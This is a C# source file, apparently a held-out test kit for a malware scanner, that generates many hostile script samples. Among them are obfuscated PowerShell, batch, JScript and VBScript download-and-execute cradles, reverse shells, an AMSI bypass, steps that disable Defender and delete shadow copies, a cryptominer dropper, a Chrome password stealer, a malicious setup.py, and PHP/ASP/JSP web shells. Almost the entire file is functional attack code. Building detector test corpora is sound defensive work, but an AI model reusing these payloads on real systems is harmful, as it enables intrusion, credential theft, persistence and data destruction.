using System.IO.Compression;
using System.Text;

namespace ScanHost.TestKit.HeldOut;

/// <summary>PowerShell of other authors.</summary>
public sealed class PowerShellScripts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Fetch = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.60/p.ps1')";
        var deflated = Convert.ToBase64String(Deflate(Encoding.ASCII.GetBytes(Fetch + "\n" + new string('#', 200))));
        var codes = string.Join(",", Fetch.Select(letter => (int)letter));
        var xored = string.Join(",", Fetch.Select(letter => letter ^ 0x35));
        var hex = string.Join("-", Fetch.Select(letter => $"{(int)letter:X2}"));
        return Texts("ps1",
            $"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{deflated}\"));\n(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()|&( $ENV:cOmSPEc[4,15,25]-joIn'')",
            $"sal zz iex\n$q = -join ([char[]]({codes}))\nzz $q",
            $"$d = {xored}\n$t = ''\nforeach ($c in $d) {{ $t += [char]($c -bxor 0x35) }}\n. ([ScriptBlock]::Create($t))",
            "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.61',4443);$st = $c.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $st.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sb = (iex $data 2>&1 | Out-String );$sb2 = $sb + 'PS ' + (pwd).Path + '> ';$sbt = ([text.encoding]::ASCII).GetBytes($sb2);$st.Write($sbt,0,$sbt.Length);$st.Flush()};$c.Close()",
            "Start-BitsTransfer -Source \"http://192.0.2.62/upd.exe\" -Destination \"$env:APPDATA\\upd.exe\"\nNew-ItemProperty -Path 'HKCU:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Upd -Value \"$env:APPDATA\\upd.exe\" -Force | Out-Null\nStart-Process -WindowStyle Hidden \"$env:APPDATA\\upd.exe\"",
            "$k = @\"\n[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);\n[DllImport(\"kernel32.dll\")] public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);\n\"@\n$w = Add-Type -memberDefinition $k -Name \"Win32\" -namespace Win32Functions -passthru\n[Byte[]]$z = 0x90,0x90,0xc3\n$x=$w::VirtualAlloc(0,0x1000,0x3000,0x40)\n[System.Runtime.InteropServices.Marshal]::Copy($z,0,$x,$z.Length)\n$w::CreateThread(0,0,$x,0,0,0)",
            "$a=[Ref].Assembly.GetTypes();ForEach($b in $a) {if ($b.Name -like \"*iUtils\") {$c=$b}};$d=$c.GetFields('NonPublic,Static');ForEach($e in $d) {if ($e.Name -like \"*Context\") {$f=$e}};$g=$f.GetValue($null);[IntPtr]$ptr=$g;[Int32[]]$buf = @(0);[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $ptr, 1)\nInvoke-Expression (Invoke-RestMethod 'http://192.0.2.63/m')",
            $"$h='{hex}'\n$z=($h -split '-' | ForEach-Object {{[char][convert]::ToInt16($_,16)}}) -join ''\nInvoke-Expression $z",
            "sET-ItEM vArIABle:Lx ([tYPe](\"{1}{0}{2}\" -F 'eT.wEbCl','N','IENT'));(GeT-vArIABle Lx).VaLue::new().\"dO`Wnl`oadfI`Le\"('http://192.0.2.64/a.exe',\"$eNv:PUBLIC\\a.exe\");&('s'+'aps') \"$eNv:PUBLIC\\a.exe\"",
            "Set-MpPreference -DisableRealtimeMonitoring $true -MAPSReporting 0\nsc.exe stop WinDefend\n$ProgressPreference='SilentlyContinue'\ncurl.exe -s http://192.0.2.65/k.zip -o $env:tmp\\k.zip; Expand-Archive $env:tmp\\k.zip $env:tmp\\k; & $env:tmp\\k\\run.exe\nvssadmin delete shadows /all /quiet");
    }

    private static byte[] Deflate(byte[] content)
    {
        using var packed = new MemoryStream();
        using (var deflate = new DeflateStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
            deflate.Write(content);
        return packed.ToArray();
    }
}

/// <summary>Batch files of other authors.</summary>
public sealed class BatchFiles : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var encoded = InertFiles.EncodedCommand("Invoke-Expression (Invoke-WebRequest -Uri 'http://192.0.2.70/a' -UseBasicParsing).Content");
        return Texts("cmd",
            $"@ECHO OFF\r\nIF NOT \"%1\"==\"m\" START /MIN CMD /C \"%~f0\" m & EXIT /B\r\nPoWeRsHeLl.ExE /w 1 /noP /eNcOd {encoded}\r\n",
            $"@echo off\r\nsetlocal EnableDelayedExpansion\r\nset \"a=we\"&set \"b=po\"&set \"c=rsh\"&set \"d=ell\"\r\nset \"cmd=!b!!a!!c!!d! -nop -w hidden -encodedcom {encoded}\"\r\ncall !cmd!\r\n",
            "@echo off\r\nmshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -ep bypass -f \\\\192.0.2.71\\s\\a.ps1\"\",0:close\")\r\n",
            "@echo off\r\n>\"%TEMP%\\x.vbs\" echo Set h=CreateObject(\"MSXML2.ServerXMLHTTP.6.0\"):h.Open \"GET\",\"http://192.0.2.72/b.exe\",0:h.Send\r\n>>\"%TEMP%\\x.vbs\" echo Set s=CreateObject(\"ADODB.Stream\"):s.Open:s.Type=1:s.Write h.ResponseBody:s.SaveToFile \"%TEMP%\\b.exe\",2\r\ncscript //nologo \"%TEMP%\\x.vbs\"\r\nstart \"\" \"%TEMP%\\b.exe\"\r\n",
            "@echo off\r\nwmic process call create \"rundll32.exe \\\\192.0.2.73@80\\davwwwroot\\c.dll,DllMain\"\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v svc /t REG_SZ /d \"%APPDATA%\\svc.exe\" /f\r\ndel \"%~f0\"\r\n",
            "@echo off\r\nset u=http://192.0.2.74/d.txt\r\ncertutil.exe -urlcache -split -f %u% %public%\\d.txt >nul\r\ncertutil -f -decodehex %public%\\d.txt %public%\\d.exe\r\n%public%\\d.exe\r\n",
            $"@echo off\r\nfor /f \"tokens=*\" %%i in ('echo po^wer^shell') do set p=%%i\r\n%p% -c \"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{encoded}'))|iex\"\r\n",
            "@echo off\r\nnet stop \"Security Center\" & netsh advfirewall set allprofiles state off\r\nbcdedit /set {default} recoveryenabled No\r\nvssadmin Delete Shadows /All /Quiet\r\nwbadmin delete catalog -quiet\r\nfor %%d in (C D E) do (if exist %%d:\\ (cipher /e /s:%%d:\\Users))\r\n");
    }
}

/// <summary>JScript and Windows script files of other authors.</summary>
public sealed class JScripts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Run = "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden -nop iex(irm http://192.0.2.80/j)\",0);";
        var shifted = string.Join(",", Run.Select(letter => letter + 3));
        var percent = string.Concat(Run.Select(letter => $"%{(int)letter:X2}"));
        return
        [
            ("Invoice_7781.js", Utf8("var p = [\"Send\", \"MSXML2.XMLH\", \"pt.Sh\", \"TTP\", \"WScri\", \"ell\", \"GET\", \"http://192.0.2.81/\", \"x.exe\", \"ADODB.S\", \"tream\"];\nvar sh = WScript.CreateObject(p[4] + p[2] + p[5]);\nvar xo = WScript.CreateObject(p[1] + p[3]);\nxo.open(p[6], p[7] + p[8], false); xo[p[0]]();\nvar st = WScript.CreateObject(p[9] + p[10]);\nst.Open(); st.Type = 1; st.Write(xo.ResponseBody);\nvar fn = sh.ExpandEnvironmentStrings(\"%TEMP%\") + \"\\\\\" + p[8];\nst.SaveToFile(fn, 2); st.Close(); sh.Run(fn, 0, false);\n")),
            ("b.js", Utf8("function d(s){return s.replace(/QzX/g,'')}\nvar w=new this[d('ActQzXiveXQzXObject')](d('WScrQzXipt.ShQzXell'));w[d('RQzXun')](d('cmQzXd /c powQzXershQzXell -eQzXp byQzXpass -w hidQzXden -c \"iQzXwr http://192.0.2.82/a.ps1 | iQzXex\"'),0);")),
            ("c.js", Utf8($"var a=[{shifted}],r='';for(var i=0;i<a.length;i++){{r+=String.fromCharCode(a[i]-3)}}\neval(r);")),
            ("d.js", Utf8($"Function(decodeURIComponent('{percent}'))();")),
            ("e.wsf", Utf8("<?xml version=\"1.0\"?>\n<package><job id=\"a\"><script language=\"VBScript\"><![CDATA[\nFunction g(x)\n g = StrReverse(x)\nEnd Function\n]]></script><script language=\"JScript\"><![CDATA[\nvar o = new ActiveXObject(g('llehS.tpircSW'));\no.Run('cmd /c certutil -urlcache -f http://192.0.2.83/a.exe %tmp%\\\\a.exe & %tmp%\\\\a.exe', 0);\n]]></script></job></package>")),
            ("f.js", Utf8("var wmi = GetObject(\"winmgmts:\\\\\\\\.\\\\root\\\\cimv2\");\nvar proc = wmi.Get(\"Win32_Process\");\nproc.Create(\"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \\\"$c=New-Object Net.WebClient;$c.DownloadFile('http://192.0.2.84/z.exe','C:\\\\Users\\\\Public\\\\z.exe');C:\\\\Users\\\\Public\\\\z.exe\\\"\");")),
            ("g.js", Utf8("var _0x3f2a=['U2hlbGwuQXBwbGljYXRpb24=','U2hlbGxFeGVjdXRl','cG93ZXJzaGVsbA==','LXcgaGlkZGVuIC1jIGlleChpcm0gaHR0cDovLzE5Mi4wLjIuODUvYSk='];(function(_0x1,_0x2){while(--_0x2){_0x1['push'](_0x1['shift']());}}(_0x3f2a,0x5));function b64(s){var t='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/',o='',i=0,n=0,b=0;for(;i<s.length;i++){var c=t.indexOf(s.charAt(i));if(c<0)continue;b=b<<6|c;n+=6;if(n>=8){n-=8;o+=String.fromCharCode(b>>n&255);}}return o;}\nvar a=new ActiveXObject(b64(_0x3f2a[0]));a[b64(_0x3f2a[1])](b64(_0x3f2a[2]),b64(_0x3f2a[3]),'','open',0);")),
            ("h.js", Utf8("/*@cc_on\nvar fso=new ActiveXObject('Scripting.FileSystemObject');var t=fso.GetSpecialFolder(2)+'\\\\u.bat';var f=fso.CreateTextFile(t,true);f.WriteLine('curl -L http://192.0.2.86/u.msi -o %TEMP%\\\\u.msi');f.WriteLine('msiexec /i %TEMP%\\\\u.msi /qn');f.Close();new ActiveXObject('WScript.Shell').Run('cmd /c '+t,0);\n@*/")),
        ];
    }
}

/// <summary>VBScript of other authors.</summary>
public sealed class VbScripts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Run = "CreateObject(\"Wscript.Shell\").Run \"cmd /c powershell -w hidden -c iex(irm http://192.0.2.90/v)\", 0";
        var hexChain = string.Join(" & ", Run.Select(letter => $"ChrW(&H{(int)letter:X})"));
        var hex = Convert.ToHexString(Encoding.ASCII.GetBytes(Run));
        var split = string.Join("*", Run.Select(letter => (int)letter));
        return Texts("vbs",
            $"Dim z\r\nz = {hexChain}\r\nExecuteGlobal z\r\n",
            $"Function hx(s)\r\nDim i, r\r\nFor i = 1 To Len(s) Step 2\r\nr = r & Chr(CLng(\"&H\" & Mid(s, i, 2)))\r\nNext\r\nhx = r\r\nEnd Function\r\nExecute hx(\"{hex}\")\r\n",
            $"a = Split(\"{split}\", \"*\")\r\nFor Each c In a\r\nt = t & Chr(c)\r\nNext\r\nEval(\"Execute(t)\")\r\n",
            "On Error Resume Next\r\nSet sa = CreateObject(Replace(\"Sh#ell.App#lication\", \"#\", \"\"))\r\nsa.ShellExecute \"powershell\", \"-exec bypass -windowstyle hidden -command \"\"Invoke-WebRequest http://192.0.2.91/f.exe -OutFile $env:TEMP\\f.exe; Start-Process $env:TEMP\\f.exe\"\"\", \"\", \"open\", 0\r\n",
            $"Set d = CreateObject(\"MSXML2.DOMDocument\").createElement(\"b64\")\r\nd.dataType = \"bin.base64\"\r\nd.text = \"{Convert.ToBase64String(InertFiles.Pe())}\"\r\nWith CreateObject(\"ADODB.Stream\")\r\n.Type = 1 : .Open : .Write d.nodeTypedValue : .SaveToFile \"C:\\Users\\Public\\p.exe\", 2\r\nEnd With\r\nCreateObject(\"WScript.Shell\").Exec \"C:\\Users\\Public\\p.exe\"\r\n",
            "' Microsoft update helper\r\nSet x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\nx.Open \"GET\", \"http://192.0.2.92/c.txt\", False\r\nx.Send\r\nExecute x.ResponseText\r\nCreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd\", WScript.ScriptFullName, \"REG_SZ\"\r\n");
    }
}

/// <summary>Shell scripts against servers.</summary>
public sealed class ServerShellScripts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("sh",
        "#!/bin/bash\nexec 5<>/dev/tcp/192.0.2.100/9001\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
        "#!/bin/sh\npython3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"192.0.2.101\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")'\n",
        "#!/bin/bash\nperl -e 'use Socket;$i=\"192.0.2.102\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n",
        "#!/bin/bash\nulimit -n 65535\nchattr -i /etc/ld.so.preload 2>/dev/null\npkill -f kinsing; pkill -f kdevtmpfsi; killall xmrig\nsetenforce 0; ufw disable; iptables -F\nif [ ! -f /tmp/.ICE/kswapd0 ]; then\n  mkdir -p /tmp/.ICE; curl -fsSL http://192.0.2.103/xmrig.tar.gz | tar xz -C /tmp/.ICE\nfi\nnohup /tmp/.ICE/kswapd0 -o stratum+tcp://pool.invalid:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DsFvo -p x --donate-level 1 >/dev/null 2>&1 &\n(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://192.0.2.103/a.sh | sh\") | crontab -\n",
        "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\nfor a in mips mpsl arm arm7 x86 ppc sh4; do\nwget http://192.0.2.104/bins/$a; curl -O http://192.0.2.104/bins/$a; cat $a > .b; chmod 777 .b; ./.b telnet.$a; rm -rf .b\ndone\nhistory -c; rm -rf ~/.bash_history\n",
        $"#!/bin/bash\necho {Base64("nohup bash -c 'bash -i >& /dev/tcp/192.0.2.105/443 0>&1' &")} | base64 --decode | bash\n",
        "#!/bin/sh\nmkdir -p /etc/systemd/system\ncat > /etc/systemd/system/dbus-helper.service <<X\n[Service]\nExecStart=/usr/bin/.dbus-helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\nX\nwget -q -O /usr/bin/.dbus-helper http://192.0.2.106/h && chmod +x /usr/bin/.dbus-helper\nsystemctl enable --now dbus-helper\necho 'ssh-rsa AAAAB3NzaC1yc2E root@x' >> /root/.ssh/authorized_keys\nhistory -c; rm -f /var/log/auth.log /var/log/wtmp\n",
        "#!/bin/sh\nTF=$(mktemp -u);mkfifo $TF && telnet 192.0.2.107 4444 0<$TF | sh 1>$TF\n");
}

/// <summary>Python that hides or steals.</summary>
public sealed class PythonScripts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Inner = "import os;os.system('curl http://192.0.2.110/a|sh')";
        var codes = string.Join(",", Inner.Select(letter => (int)letter));
        return
        [
            ("setup.py", Utf8("from setuptools import setup\nfrom setuptools.command.install import install\nimport os, socket, json\nfrom urllib import request\n\nclass Post(install):\n    def run(self):\n        install.run(self)\n        d = {'h': socket.gethostname(), 'u': os.getlogin(), 'e': dict(os.environ)}\n        request.urlopen(request.Request('https://abcd.oastify.invalid/', data=json.dumps(d).encode()))\n\nsetup(name='internal-utils', version='99.0.1', cmdclass={'install': Post}, packages=[])\n")),
            ("run.py", Utf8($"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{new string([.. Base64(new string('x', 300)).Reverse()])}'))\n")),
            ("a.py", Utf8($"exec(''.join(chr(c) for c in [{codes}]))\n")),
            ("__init__.py", Utf8("import requests, threading, platform\n\ndef _load():\n    try:\n        exec(requests.get('https://raw.paste.invalid/raw/abc').text)\n    except Exception:\n        pass\n\nif platform.system() == 'Windows':\n    threading.Thread(target=_load, daemon=True).start()\n")),
            ("grab.py", Utf8("import os,re,json,sqlite3,shutil,requests,win32crypt\nfrom Crypto.Cipher import AES\nhook='https://discord.com/api/webhooks/1/abc'\nlocal=os.getenv('LOCALAPPDATA')\nstate=json.load(open(local+r'\\Google\\Chrome\\User Data\\Local State',encoding='utf8'))\nkey=win32crypt.CryptUnprotectData(__import__('base64').b64decode(state['os_crypt']['encrypted_key'])[5:],None,None,None,0)[1]\nshutil.copy2(local+r'\\Google\\Chrome\\User Data\\Default\\Login Data','t.db')\nfor u,n,p in sqlite3.connect('t.db').execute('select origin_url,username_value,password_value from logins'):\n    requests.post(hook,json={'content':u+n+AES.new(key,AES.MODE_GCM,p[3:15]).decrypt(p[15:-16]).decode()})\n")),
            ("kl.py", Utf8("import ctypes,urllib.request\nb=bytearray(urllib.request.urlopen('http://192.0.2.111/b.bin').read())\np=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)\nctypes.windll.kernel32.RtlMoveMemory(p,(ctypes.c_char*len(b)).from_buffer(b),len(b))\nt=ctypes.windll.kernel32.CreateThread(0,0,p,0,0,0)\nctypes.windll.kernel32.WaitForSingleObject(t,-1)\n")),
        ];
    }
}

/// <summary>Shells on web servers.</summary>
public sealed class WebShells : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.php", Utf8("<?php\n$k = 'ass'.'ert';\n@$k($_POST['z0']);\n")),
        ("b.php", Utf8("<?php preg_replace('/.*/e', $_REQUEST['p'], ''); ?>")),
        ("c.php", Utf8("<?php if(md5(@$_COOKIE['qz'])=='d41d8cd98f00b204e9800998ecf8427e') { $f=create_function('', $_POST['c']); $f(); } ?>")),
        ("d.php", Utf8("<html><body><form method=GET><input name=cmd><input type=submit></form><pre><?php if(isset($_GET['cmd'])) { $cmd = $_GET['cmd']; echo shell_exec($cmd . ' 2>&1'); } ?></pre></body></html>")),
        ("e.php", Utf8($"<?php\n$o = \"{Base64("system($_GET['x']);")}\";\n$p = 'ba'.'se6'.'4_de'.'code';\neval($p($o));\n")),
        ("f.php", Utf8("<?php call_user_func_array($_GET['f'], [$_GET['a'], $_GET['b']]); ?>")),
        ("g.aspx", Utf8("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"chopper\"],\"unsafe\");%>")),
        ("h.jsp", Utf8("<%@ page import=\"java.util.*,java.io.*\"%>\n<% if (request.getParameter(\"cmd\") != null) { Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); DataInputStream dis = new DataInputStream(p.getInputStream()); String l = dis.readLine(); while (l != null) { out.println(l); l = dis.readLine(); } } %>\n")),
        ("i.asp", Utf8("<%eval request(\"pass\")%>")),
        ("j.aspx", Utf8("<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Diagnostics\" %><script runat=\"server\">void Page_Load(object s, EventArgs e){ var p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + Request.Form[\"c\"]; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false; p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); }</script>")),
    ];
}

/// <summary>Texts that Windows acts on, under rarer extensions.</summary>
public sealed class RareScripts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.sct", Utf8("<?XML version=\"1.0\"?>\n<scriptlet><registration progid=\"PoC\" classid=\"{F0001111-0000-0000-0000-0000FEEDACDC}\"><script language=\"JScript\"><![CDATA[ var r = new ActiveXObject(\"WScript.Shell\").Run(\"powershell -w hidden -c iex(irm http://192.0.2.120/s)\"); ]]></script></registration></scriptlet>")),
        ("b.xsl", Utf8("<?xml version='1.0'?>\n<stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" xmlns:ms=\"urn:schemas-microsoft-com:xslt\" version=\"1.0\"><output method=\"text\"/><ms:script implements-prefix=\"user\" language=\"JScript\"><![CDATA[ var r = new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c powershell -nop -w hidden -c iwr http://192.0.2.121/x|iex\"); ]]></ms:script></stylesheet>")),
        ("c.reg", Utf8("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"Updater\"=\"powershell.exe -w hidden -nop -c \\\"iex (New-Object Net.WebClient).DownloadString('http://192.0.2.122/r')\\\"\"\r\n")),
        ("d.scf", Utf8("[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.123\\share\\i.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n")),
        ("e.inf", Utf8("[version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n[DefaultInstall_SingleUser]\r\nUnRegisterOCXs=Reg\r\n[Reg]\r\n%11%\\scrobj.dll,NI,http://192.0.2.124/a.sct\r\n[Strings]\r\nServiceName=\"x\"\r\n")),
        ("f.csv", Utf8("Name,Amount\r\nAnn,=cmd|'/C powershell IEX(wget 192.0.2.125/s)'!A0\r\n")),
        ("g.iqy", Utf8("WEB\r\n1\r\nhttp://198.51.100.9/2.dat\r\n2\r\nSelection=1\r\nFormatting=None\r\n")),
        ("h.slk", Utf8("ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;ECALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"powershell\",\"-w hidden -c iex(irm http://192.0.2.126/s)\",0,0)\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n")),
    ];
}
